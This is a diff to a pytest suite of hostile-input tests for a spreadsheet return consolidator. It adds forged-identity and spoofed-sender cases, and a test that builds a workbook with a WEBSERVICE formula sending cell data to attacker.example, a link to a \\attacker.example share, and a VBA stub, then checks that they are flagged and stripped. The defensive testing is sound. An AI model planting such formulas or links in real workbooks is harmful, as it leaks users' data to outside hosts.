@@ -23,21 +23,31 @@ import time
 import zipfile
 from collections.abc import Callable
 from dataclasses import dataclass, field
-from datetime import date
+from datetime import date, timedelta
 from pathlib import Path
 
 import openpyxl
 import pytest
 
+from conftest import convert
 from qmr import cycle as quarter
+from qmr.collect.sniff import OLE_MAGIC
 from qmr.demo.simulate import fill_return, simulate
+from qmr.model import Plan
 from qmr.period import Period
 from qmr.returns import layout
+from qmr.returns.extent import check_package
+from qmr.returns.reader import read_return
+from qmr.returns.template import write_return
+from test_sources import eml_bytes, msg_bytes
 
 QMR = Path(sys.executable).with_name("qmr")
 Q3 = Period(2008, 3)
 TEAMS = ("BSC-FIN", "BSC-MIC", "BSC-PP")
 SIGNED = date(2009, 1, 12)
+LATER = SIGNED + timedelta(days=8)  # a forged return signed after the real one would win if accepted
+EARLIER = SIGNED - timedelta(days=4)  # a draft the real return supersedes
+MALLORY = "Mallory <mallory@attacker.example>"
 MEMORY_LIMIT = 2 * 1024**3  # address space per qmr process: a normal run of this size needs far less
 EXIT_CLEAN, EXIT_PROBLEMS = 0, 1
 
@@ -97,7 +107,9 @@ def data_items(csv_path: Path) -> list[tuple[str, ...]]:
 @dataclass(frozen=True)
 class Quarter:
     root: Path
+    work: Path  # the working folder made by `qmr init` (with its team-token secret)
     plan: Path
+    register: Plan
     templates: dict[str, Path]
     valid: dict[str, Path]  # team -> a valid filled return
     clean_items: list[tuple[str, ...]]
@@ -108,13 +120,16 @@ def q(tmp_path_factory: pytest.TempPathFactory) -> Quarter:
     root = tmp_path_factory.mktemp("hostile")
     folder = quarter.init_folder(root / "work", "bpr-2008-09")
     plan, _ = quarter.load_plan(folder.plan)
-    templates = {t.stem.split("_", 1)[1]: t for t in quarter.make_templates(plan, Q3, folder.templates_for(Q3))}
+    secret = quarter.folder_secret(folder)
+    assert secret is not None  # `qmr init` made one
+    templates = {t.stem.split("_", 1)[1]: t
+                 for t in quarter.make_templates(plan, Q3, folder.templates_for(Q3), secret=secret)}
     valid = {team: fill_return(templates[team], root / "valid" / f"{team} return.xlsx",
                                simulate(plan, team, Q3, 7, signed=SIGNED)) for team in TEAMS}
     out = root / "clean" / "QMR.xlsx"
     qmr("consolidate", "--plan", folder.plan, "--period", Q3.label, root / "valid", "--out", out, "--quiet",
         cwd=root, expect=EXIT_CLEAN)
-    return Quarter(root, folder.plan, templates, valid, data_items(out.with_suffix(".csv")))
+    return Quarter(root, folder.root, folder.plan, plan, templates, valid, data_items(out.with_suffix(".csv")))
 
 
 # ------------------------------------------------------------------------------------------------
@@ -200,6 +215,34 @@ def key_twice(book: openpyxl.Workbook) -> None:
     book[sheet][item_sheet.cell(item_sheet.ref_field, row)].value = ws.cell(first, 4).value
 
 
+def claim(team: str, *, signed: date, rekey: bool = False) -> Callable[[openpyxl.Workbook], None]:
+    """Another team's return with its hidden identity edited to claim `team`, signed later so that it
+    would win; with `rekey`, every row re-keyed (and its visible ref edited to match) to a ref the
+    register does not have, so that no row gives it away as another team's."""
+
+    def change(book: openpyxl.Workbook) -> None:
+        ws = book[layout.IDENTITY_SHEET]
+        ws[layout.identity_cell("team")].value = team
+        book[layout.SIGNOFF_SHEET][layout.signoff_cell("date")].value = signed
+        for row in key_rows(book) if rekey else ():
+            sheet, number, key, ref = (ws.cell(row, c).value for c in (1, 2, 3, 4))
+            new_ref = f"{ref}-X"
+            ws.cell(row, 3).value, ws.cell(row, 4).value = f"{key.split(':', 1)[0]}:{new_ref}", new_ref
+            item_sheet = layout.sheet_named(sheet)
+            book[sheet][item_sheet.cell(item_sheet.ref_field, int(number))].value = new_ref
+
+    return change
+
+
+def filled(q: Quarter, team: str, target: Path, seed: int, signed: date | str,
+           template: Path | None = None) -> Path:
+    """`team`'s template filled in by someone (seeded answers), signed `signed` (a date, or text typed)."""
+    answers = simulate(q.register, team, Q3, seed, signed=SIGNED)
+    answers.signoff["date"] = signed
+    target.parent.mkdir(parents=True, exist_ok=True)
+    return fill_return(template or q.templates[team], target, answers)
+
+
 def hidden_copy(book: openpyxl.Workbook) -> None:
     copy = book.copy_worksheet(book[layout.INDICATORS.name])
     copy.title = f"{layout.INDICATORS.name} (2)"
@@ -257,9 +300,68 @@ def _hidden_files(q: Quarter, inbox: Path) -> None:
     zipped(inbox / "mac.zip", {"__MACOSX/._PP.xlsx": b"\x00\x05\x16\x07", ".DS_Store": b"junk"})
 
 
-CASES += (Case("hidden files, a hidden folder and a zip of dot-entries only", _hidden_files),)
+def _emailed(q: Quarter, inbox: Path) -> None:
+    """Drafts (superseded by the valid returns) e-mailed by someone who is not the team's clerk, and one
+    by the clerk (the address in another case than the register's)."""
+    pp = filled(q, "BSC-PP", q.root / "mail" / "PP.xlsx", 21, EARLIER).read_bytes()
+    mic = filled(q, "BSC-MIC", q.root / "mail" / "MIC.xlsx", 22, EARLIER).read_bytes()
+    fin = filled(q, "BSC-FIN", q.root / "mail" / "FIN.xlsx", 23, EARLIER).read_bytes()
+    (inbox / "from mallory.eml").write_bytes(eml_bytes([("PP return.xlsx", pp)], sender=MALLORY))
+    (inbox / "from mallory.msg").write_bytes(msg_bytes([("MIC return.xlsx", mic)], sender=MALLORY))
+    clerk = q.register.team("BSC-FIN").clerk_email
+    (inbox / "from the clerk.eml").write_bytes(eml_bytes([("FIN return.xlsx", fin)],
+                                                         sender=f"FIN clerk <{clerk.upper()}>"))
 
-BATCHES = {"all": CASES}
+
+CASES += (
+    Case("hidden files, a hidden folder and a zip of dot-entries only", _hidden_files),
+    Case("another team's return whose identity claims BSC-FIN, signed later",
+         lambda q, inbox: identity_edit(q.valid["BSC-MIC"], inbox / "MIC as FIN.xlsx",
+                                        claim("BSC-FIN", signed=LATER)) and None,
+         {"MIC as FIN.xlsx": "rows-of-another-team"}),
+    Case("BSC-FIN's own template filled by someone else, signed 31/12/9999",
+         lambda q, inbox: filled(q, "BSC-FIN", inbox / "FIN 9999.xlsx", 31, "31/12/9999") and None,
+         {"FIN 9999.xlsx": "signoff-date-impossible"}),
+    Case("a return signed before the period began",
+         lambda q, inbox: filled(q, "BSC-MIC", inbox / "MIC early.xlsx", 32, Q3.start - timedelta(days=1))
+         and None, {"MIC early.xlsx": "signoff-date-impossible"}),
+    Case("returns e-mailed by someone other than the team's clerk", _emailed,
+         {"from mallory.eml/": "sender-not-clerk", "from mallory.msg/": "sender-not-clerk"}),
+    Case("run outside the working folder: tokens unchecked", lambda q, inbox: None,
+         {".qmr-secret": "token-unchecked"}),
+)
+
+
+def _issued_before_the_secret(q: Quarter, inbox: Path) -> None:
+    old = write_return(q.register, "BSC-FIN", Q3, q.root / "old" / "FIN template.xlsx")  # no secret: no token
+    filled(q, "BSC-FIN", inbox / "FIN no token.xlsx", 41, EARLIER, template=old)
+
+
+def as_format_1(book: openpyxl.Workbook) -> None:
+    """The identity sheet as a qmr from before team tokens wrote it: format 1, no team_token row."""
+    ws = book[layout.IDENTITY_SHEET]
+    ws.delete_rows(layout.identity_row("team_token"))
+    ws[layout.identity_cell("format_version")].value = 1
+
+
+def _format_1(q: Quarter, inbox: Path) -> None:
+    draft = filled(q, "BSC-MIC", q.root / "old" / "MIC format 1.xlsx", 42, EARLIER)
+    identity_edit(draft, inbox / "MIC format 1.xlsx", as_format_1)
+
+
+# Run inside the working folder, so that the team tokens are checked.
+IN_FOLDER_CASES = (
+    Case("another team's return claiming BSC-FIN, every row re-keyed to refs nobody has",
+         lambda q, inbox: identity_edit(q.valid["BSC-MIC"], inbox / "MIC as FIN rekeyed.xlsx",
+                                        claim("BSC-FIN", signed=LATER, rekey=True)) and None,
+         {"MIC as FIN rekeyed.xlsx": "token-mismatch"}),
+    Case("a template issued before the working folder had its secret", _issued_before_the_secret,
+         {"FIN no token.xlsx": "token-missing"}),
+    Case("a return of format 1 (before team tokens): read, with a warning", _format_1,
+         {"MIC format 1.xlsx": "token-missing"}),
+)
+IN_FOLDER = "in the working folder"
+BATCHES = {"all": CASES, IN_FOLDER: IN_FOLDER_CASES}
 STALE = ".QMR.xlsx.abcd1234.tmp"  # what a run killed while writing the master left behind
 
 
@@ -280,8 +382,9 @@ def batch(request: pytest.FixtureRequest, q: Quarter) -> tuple[tuple[Case, ...],
     os.utime(out / STALE, (time.time() - 3600, time.time() - 3600))
     os.utime(out / ".other.xlsx.abcd1234.tmp", (time.time() - 3600, time.time() - 3600))
     before = snapshot(inbox)
+    inside = ("--db", folder / "qmr.db") if request.param == IN_FOLDER else ()  # not the folder's history
     done = qmr("consolidate", "--plan", q.plan, "--period", Q3.label, inbox, "--out", folder / "out" / "QMR.xlsx",
-               cwd=folder, expect=EXIT_PROBLEMS)
+               *inside, cwd=q.work if request.param == IN_FOLDER else folder, expect=EXIT_PROBLEMS)
     assert snapshot(inbox) == before, "an input was modified"
     return cases, folder, {"stdout": done.stdout + done.stderr}
 
@@ -306,7 +409,7 @@ def test_a_killed_runs_temporary_is_removed_and_nothing_else(batch) -> None:
     assert left == [".QMR.xlsx.fresh123.tmp", ".other.xlsx.abcd1234.tmp"]  # too young, or not this output's
 
 
-@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
+@pytest.mark.parametrize("case", CASES + IN_FOLDER_CASES, ids=lambda c: c.name)
 def test_each_case_gets_its_finding(case: Case, batch) -> None:
     cases, folder, _ = batch
     if case not in cases:
@@ -315,6 +418,23 @@ def test_each_case_gets_its_finding(case: Case, batch) -> None:
     for tail, code in case.expect.items():
         about = [f for f in findings if tail in str(f["File"])]
         assert code in {f["Code"] for f in about}, (tail, about or findings)
+
+
+def test_what_is_genuine_is_not_doubted(batch) -> None:
+    """The clerk's own e-mail raises no sender warning; in the working folder, the valid returns' tokens
+    are checked and pass (no token warning of any kind about them)."""
+    cases, folder, _ = batch
+    findings = sheet_rows(folder / "out" / "QMR.xlsx", "Validation")
+    codes = {(Path(str(f["File"])).name, f["Code"]) for f in findings}
+    doubted = {(name, code) for name, code in codes if code.startswith(("token-", "sender-"))}
+    if cases is IN_FOLDER_CASES:
+        assert doubted == {("FIN no token.xlsx", "token-missing"), ("MIC format 1.xlsx", "token-missing"),
+                           ("MIC as FIN rekeyed.xlsx", "token-mismatch")}
+        sources = {Path(str(r["File"])).name: r for r in sheet_rows(folder / "out" / "QMR.xlsx", "Sources")}
+        assert sources["MIC format 1.xlsx"]["Outcome"] == "superseded"  # read, not refused
+    else:
+        assert not [f for f in findings if "from the clerk.eml" in str(f["File"]) and f["Code"] == "sender-not-clerk"]
+        assert ("FIN return.xlsx", "sender-not-clerk") not in codes
 
 
 def test_no_control_character_reaches_the_terminal(batch) -> None:
@@ -382,3 +502,138 @@ def test_an_output_that_cannot_be_written_after_the_master_is_exit_1_naming_it(q
                cwd=tmp_path, expect=EXIT_PROBLEMS)
     assert (tmp_path / "QMR.xlsx").exists()
     assert "notwritten" in squashed(done.stdout) and "│ QMR.csv │" in done.stdout
+
+
+# ------------------------------------------------------------------------------------------------
+# What a return carries into its feedback copy: links to elsewhere, a VBA project
+
+ATTACKER_SHARE = r"\\attacker.example\share"
+EXTERNAL_LINK = ('<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+                 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
+                 '<externalBook r:id="rId1"><sheetNames><sheetName val="Figures"/></sheetNames>'
+                 '<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>42</v></cell></row>'
+                 '</sheetData></sheetDataSet></externalBook></externalLink>')
+RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
+
+
+def linked(q: Quarter, target: Path) -> Path:
+    """FIN's valid return with a formula fetching from a web service, a formula reading a workbook on
+    \\\\attacker.example\\share, and that workbook's external link part, as Excel writes them."""
+    book = openpyxl.load_workbook(q.valid["BSC-FIN"])
+    ws = book[layout.NARRATIVE_SHEET]
+    ws[f"A{layout.FIRST_ROW}"], ws[f"B{layout.FIRST_ROW}"] = "Key development", "Figures"
+    ws[f"C{layout.FIRST_ROW}"] = '=WEBSERVICE("http://attacker.example/?q="&A5)'
+    ws[f"C{layout.FIRST_ROW + 1}"] = "=[1]Figures!A1"
+    plain = target.with_name(f"plain {target.name}")
+    target.parent.mkdir(parents=True, exist_ok=True)
+    book.save(plain)
+
+    def edit(name: str, data: bytes) -> bytes:
+        if name == "xl/workbook.xml":
+            return data.replace(b"</sheets>", f'</sheets><externalReferences><externalReference xmlns:r="{RELS}" '
+                                'r:id="rIdX1"/></externalReferences>'.encode())
+        if name == "xl/_rels/workbook.xml.rels":
+            return data.replace(b"</Relationships>", f'<Relationship Id="rIdX1" Type="{RELS}/externalLink" '
+                                f'Target="externalLinks/externalLink1.xml"/></Relationships>'.encode())
+        if name == "[Content_Types].xml":
+            return data.replace(b"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" '
+                                b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
+                                b'externalLink+xml"/></Types>')
+        return data
+
+    link_rels = (f'<Relationships xmlns="{PACKAGE_RELS}"><Relationship Id="rId1" Type="{RELS}/externalLinkPath" '
+                 f'Target="file:///{ATTACKER_SHARE}\\figures.xlsx" TargetMode="External"/></Relationships>')
+    rewrite(plain, target, edit, {"xl/externalLinks/externalLink1.xml": EXTERNAL_LINK.encode(),
+                                  "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels.encode()})
+    plain.unlink()
+    return target
+
+
+def with_vba(q: Quarter, target: Path) -> Path:
+    """MIC's valid return carrying a VBA project, as an .xlsm saved and renamed .xlsx carries it."""
+    def edit(name: str, data: bytes) -> bytes:
+        if name == "xl/_rels/workbook.xml.rels":
+            return data.replace(b"</Relationships>", b'<Relationship Id="rIdV1" Type="http://schemas.microsoft.'
+                                b'com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
+                                b"</Relationships>")
+        if name == "[Content_Types].xml":
+            return data.replace(b"</Types>", b'<Override PartName="/xl/vbaProject.bin" ContentType='
+                                b'"application/vnd.ms-office.vbaProject"/></Types>')
+        return data
+
+    return rewrite(q.valid["BSC-MIC"], target, edit, {"xl/vbaProject.bin": OLE_MAGIC + bytes(504)})
+
+
+def test_links_and_macros_are_said_and_stay_out_of_feedback_copies(q: Quarter, tmp_path: Path) -> None:
+    inbox = tmp_path / "inbox"
+    linked(q, inbox / "FIN linked.xlsx")
+    with_vba(q, inbox / "MIC macros.xlsx")
+    shutil.copy(q.valid["BSC-PP"], inbox / "PP.xlsx")
+    before = snapshot(inbox)
+    qmr("validate", "--plan", q.plan, "--period", Q3.label, inbox, "--feedback", tmp_path / "feedback",
+        "--report", tmp_path / "findings.xlsx", "--quiet", cwd=tmp_path, expect=EXIT_CLEAN)
+    assert snapshot(inbox) == before
+    findings = sheet_rows(tmp_path / "findings.xlsx", "Findings")
+    codes = {(Path(str(f["file"])).name, f["code"]): str(f["message"]) for f in findings}
+    assert ATTACKER_SHARE in codes["FIN linked.xlsx", "external-link"]
+    assert "feedback copy leaves them out" in codes["FIN linked.xlsx", "external-link"]
+    assert ("MIC macros.xlsx", "vba-project") in codes
+    copy = tmp_path / "feedback" / "FIN linked_feedback.xlsx"
+    with zipfile.ZipFile(copy) as package:
+        parts = {name: package.read(name) for name in package.namelist()}
+    assert not [name for name in parts if "externalLink" in name]
+    relations = [name for name in parts if name.endswith(".rels") or name == "xl/workbook.xml"]
+    assert not [name for name in relations if b"attacker.example" in parts[name]], "the link stayed"
+    formulas = [f for name, data in parts.items() if name.startswith("xl/worksheets/")
+                for f in re.findall(rb"<f[^>]*>([^<]*)</f>", data)]
+    assert not [f for f in formulas if b"WEBSERVICE" in f.upper() or b"[1]" in f], formulas
+
+
+def sheet_bytes(path: Path) -> int:
+    """What a return's sheets unpack to: what the feedback size limit is about."""
+    with zipfile.ZipFile(path) as package:
+        return sum(i.file_size for i in package.infolist() if i.filename.startswith("xl/worksheets/"))
+
+
+def test_a_return_too_large_for_a_feedback_copy_is_a_finding_and_the_others_get_theirs(q: Quarter, tmp_path: Path
+                                                                                      ) -> None:
+    """The limit lowered (a parameter, as for a council with smaller machines) so that the largest of three
+    returns, each with a problem to mark, is over it: that one gets a finding, the other two their copies."""
+    inbox = tmp_path / "inbox"
+    inbox.mkdir()
+    for team in TEAMS:
+        book = openpyxl.load_workbook(q.valid[team])
+        ws = book[layout.IDENTITY_SHEET]
+        first = key_rows(book)[0]
+        sheet, row = ws.cell(first, 1).value, int(ws.cell(first, 2).value)
+        book[sheet][layout.sheet_named(sheet).cell("progress", row)].value = None  # a problem to mark up
+        book.save(inbox / f"{team}.xlsx")
+    sizes = {team: sheet_bytes(inbox / f"{team}.xlsx") for team in TEAMS}
+    largest = max(sizes, key=lambda team: sizes[team])
+    limit = max(size for team, size in sizes.items() if team != largest)  # the others are within it
+    assert sizes[largest] > limit
+    batch = quarter.run_validation(q.register, Q3, [inbox])
+    copies = quarter.write_feedback_copies(batch, tmp_path / "feedback", Q3, max_sheet_bytes=limit)
+    assert sorted(p.name for p in copies.written) == sorted(f"{team}_feedback.xlsx" for team in TEAMS
+                                                            if team != largest)
+    failed = [f for f in copies.findings if f.code == "feedback-failed"]
+    assert [Path(f.file).name for f in failed] == [f"{largest}.xlsx"], failed
+    assert "a feedback copy is made from" in failed[0].message
+
+
+@pytest.mark.libreoffice
+@pytest.mark.parametrize("what", ["template", "filled return"])
+def test_a_workbook_saved_by_libreoffice_passes_the_extent_scan(q: Quarter, soffice: str, tmp_path: Path,
+                                                                 what: str) -> None:
+    """LibreOffice writes its own <dimension> and styled columns out to the sheet's edge (`<cols>` up to
+    XFD): a legitimate return it saved must not look like a far-away cell."""
+    source = q.templates["BSC-FIN"] if what == "template" else q.valid["BSC-FIN"]
+    saved = convert(soffice, source, "xlsx", tmp_path / "libreoffice")
+    data = saved.read_bytes()
+    check = check_package(data)
+    assert check.problem is None, check.problem
+    workbook, findings = read_return(saved.name, data)
+    assert workbook is not None, findings
+    assert not [f for f in findings if f.code == "sheet-too-large"], findings
+    assert workbook.identity.team == "BSC-FIN" and workbook.identity.team_token  # the token survives too
